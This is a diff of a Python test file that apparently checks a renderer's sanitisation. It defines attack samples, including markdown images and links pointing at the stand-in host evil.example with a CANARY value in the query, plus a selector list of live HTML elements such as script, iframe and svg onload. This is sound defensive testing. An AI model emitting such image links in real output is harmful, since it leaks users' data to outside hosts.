@@ -50,7 +50,9 @@ PICTURES = """Pictures ![a](https://evil.example/?d=CANARY) ![b][r] ![c](//evil.
 https://evil.example/auto and [a link](https://evil.example/full?address=shown) ENDOFPICTURES
 """
 ATTACKS = {"MARKUP": MARKUP, "FENCES": FENCES, "DIAGRAMS": DIAGRAMS, "PICTURES": PICTURES}
-LIVE = "script, iframe, form, style, object, embed, link, base, img[src^='http'], img[src^='//'], img[srcset], svg[onload]"
+LIVE = (
+    "script, iframe, form, style, object, embed, link, base, img[src^='http'], img[src^='//'], img[srcset], svg[onload]"
+)
 
 
 @pytest.mark.parametrize("look", [("light", "en-US"), ("dark", "ko-KR")], ids=["light-en", "dark-ko"])
